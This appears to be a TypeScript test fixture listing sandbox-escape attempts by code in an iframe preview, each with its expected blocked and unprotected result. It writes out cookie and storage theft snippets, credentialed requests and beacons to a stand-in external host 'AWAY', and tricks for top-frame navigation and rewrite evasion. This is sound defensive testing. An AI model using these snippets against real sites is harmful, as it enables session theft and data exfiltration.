/**
 * Attacks by code in the preview, with the expected result in the frame (`held`) and without protection (`open`).
 * `AWAY` stands for the URL of an external server.
 */

/** `code` reads a value; the result is that value, or the error's name. */
export type AccessAttempt = { name: string; code: string; held: string; open: string };

/** A new window in the page, with unmodified functions. */
const realm = "document.body.appendChild(document.createElement('iframe')).contentWindow";

export const frameAccess: AccessAttempt[] = [
  { name: "parent", code: "parent.document.title", held: "SecurityError", open: "Preview" },
  { name: "top", code: "top.document.title", held: "SecurityError", open: "App" },
  { name: "variable of top", code: "top.secret", held: "SecurityError", open: "stolen-variable" },
  { name: "frame around", code: "frameElement?.ownerDocument.title", held: "undefined", open: "Preview" },
  {
    name: "another frame of the app",
    code: "[...Array(top.length).keys()].map((i) => top[i]).find((each) => each !== parent).document.title",
    held: "SecurityError",
    open: "Other",
  },
  {
    name: "a wider domain",
    code: "(document.domain = 'localhost', top.document.title)",
    held: "SecurityError",
    open: "App",
  },
  { name: "history of top", code: "top.history.length > 0", held: "SecurityError", open: "true" },
  { name: "no origin", code: "self.origin === 'null'", held: "true", open: "false" },
];

export const storageAccess: AccessAttempt[] = [
  {
    name: "cookie",
    code: "Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document)",
    held: "SecurityError",
    open: "session=stolen-cookie",
  },
  {
    name: "cookie of a new window",
    code: `${realm}.document.cookie`,
    held: "SecurityError",
    open: "session=stolen-cookie",
  },
  { name: "storage", code: `${realm}.localStorage.secret`, held: "SecurityError", open: "stolen-storage" },
  { name: "session storage", code: `${realm}.sessionStorage.length`, held: "SecurityError", open: "0" },
  {
    name: "database",
    code: `new Promise((yes, no) => { const o = ${realm}.indexedDB.open('x'); o.onsuccess = () => yes('opened'); o.onerror = () => no(o.error); })`,
    held: "SecurityError",
    open: "opened",
  },
  { name: "caches", code: "caches.open('x').then(() => 'opened')", held: "SecurityError", open: "opened" },
  {
    name: "cookie store",
    code: "cookieStore.getAll().then(([first]) => first.value)",
    held: "SecurityError",
    open: "stolen-cookie",
  },
  {
    name: "locks",
    code: "navigator.locks.request('x', () => 'locked')",
    held: "SecurityError",
    open: "locked",
  },
  {
    name: "files",
    code: "navigator.storage.getDirectory().then(() => 'opened')",
    held: "SecurityError",
    open: "opened",
  },
  {
    name: "service workers",
    code: "navigator.serviceWorker.getRegistrations().then((all) => all.length)",
    held: "SecurityError",
    open: "0",
  },
  {
    name: "worker",
    code: "new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => yes('ran'); w.onerror = () => no(new TypeError()); })",
    held: "TypeError",
    open: "ran",
  },
  {
    name: "the app's own interface",
    code: "fetch(new URL('/api/health', document.baseURI), { credentials: 'include' }).then((answer) => answer.status)",
    held: "TypeError",
    open: "200",
  },
];

/** Each sends one request to AWAY/<name>; the browser reports that URL when it blocks the request. */
export const requestAttempts: { name: string; markup?: string; code?: string }[] = [
  { name: "fetch", code: "fetch('AWAY/fetch', { mode: 'no-cors' })" },
  {
    name: "xhr",
    code: "const x = new XMLHttpRequest(); x.open('GET', 'AWAY/xhr'); x.withCredentials = true; x.send();",
  },
  { name: "beacon", code: "navigator.sendBeacon('AWAY/beacon', 'x')" },
  { name: "socket", code: "new WebSocket('AWAY/socket'.replace('http', 'ws'))" },
  { name: "events", code: "new EventSource('AWAY/events')" },
  { name: "import", code: "import('AWAY/import')" },
  { name: "font", code: "new FontFace('x', 'url(AWAY/font)').load()" },
  { name: "script", markup: '<script src="AWAY/script"></script>' },
  { name: "style", markup: '<link rel="stylesheet" href="AWAY/style">' },
  { name: "prefetch", markup: '<link rel="prefetch" href="AWAY/prefetch">' },
  { name: "preload", markup: '<link rel="preload" as="script" href="AWAY/preload">' },
  { name: "image", markup: '<img src="AWAY/image">' },
  { name: "background", markup: '<p style="background: url(AWAY/background)">x</p>' },
  { name: "video", markup: '<video src="AWAY/video"></video>' },
  { name: "object", markup: '<object data="AWAY/object"></object>' },
  { name: "embed", markup: '<embed src="AWAY/embed">' },
];

/** Each navigates to AWAY; `held` is the name of the error thrown, or the browser's message. */
export type Navigation = { name: string; markup?: string; code?: string; held: RegExp };

// Otherwise the frame's own handlers would answer these before the browser does: the event's method is theirs, too.
const skip = "Event.prototype.stopImmediatePropagation.call(event)";
const skipClickHandlers = `onclick="${skip}"`;
const skipSubmitHandlers = `onsubmit="${skip}"`;
const click = "document.querySelector('a, button').click()";
const submit = "document.querySelector('form').requestSubmit()";

const topBlocked = /allow-top-navigation/;

/** A nested frame that requests every permission the page lacks. */
const inUnsandboxedFrame = (code: string) =>
  `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation allow-popups" srcdoc="<script>${code}</script>"></iframe>`;

export const topNavigations: Navigation[] = [
  { name: "location", code: "top.location = 'AWAY'", held: /^SecurityError$/m },
  { name: "href", code: "top.location.href = 'AWAY'", held: /^SecurityError$/m },
  { name: "replace", code: "top.location.replace('AWAY')", held: /^SecurityError$/m },
  { name: "the frame around", code: "parent.location = 'AWAY'", held: /^SecurityError$/m },
  { name: "open", code: `${realm}.open('AWAY', '_top')`, held: /^SecurityError$/m },
  {
    name: "link",
    markup: `<a href="AWAY" target="_top" ${skipClickHandlers}>out</a>`,
    code: click,
    held: topBlocked,
  },
  {
    name: "form",
    markup: `<form action="AWAY" target="_top" method="post" ${skipSubmitHandlers}></form>`,
    code: submit,
    held: topBlocked,
  },
  { name: "a frame inside", markup: inUnsandboxedFrame("top.location = 'AWAY'"), held: topBlocked },
];

const popupBlocked = /allow-popups/;

export const popupAttempts: Navigation[] = [
  { name: "open", code: `${realm}.open('AWAY')`, held: /^SecurityError$/m },
  {
    name: "open in a frame inside",
    markup: inUnsandboxedFrame("open('AWAY')"),
    held: popupBlocked,
  },
  {
    name: "link",
    markup: `<a href="AWAY" target="_blank" ${skipClickHandlers}>out</a>`,
    code: click,
    held: popupBlocked,
  },
  {
    name: "form",
    markup: `<form action="AWAY" target="_blank" method="post" ${skipSubmitHandlers}></form>`,
    code: submit,
    held: popupBlocked,
  },
];

const formBlocked = /^Sending form data to 'http.*violates/m;
const navigationBlocked = /^The page tried to leave for http/m;
const form = `<form action="AWAY" method="post" ${skipSubmitHandlers}><input name="a" value="1"><button>Go</button></form>`;

export const frameNavigations: Navigation[] = [
  // By a name that the rewriting of addresses does not see; code that says `location` gets the page's own address.
  {
    name: "script",
    code: "Reflect.get(globalThis, 'loc' + 'ation').href = 'AWAY'",
    held: navigationBlocked,
  },
  {
    name: "meta refresh",
    markup: '<meta http-equiv="refresh" content="0;url=AWAY">',
    held: navigationBlocked,
  },
  {
    name: "link",
    markup: `<a href="AWAY" ${skipClickHandlers}>out</a>`,
    code: click,
    held: navigationBlocked,
  },
  { name: "form", markup: form, code: submit, held: formBlocked },
  { name: "button", markup: form, code: click, held: formBlocked },
];
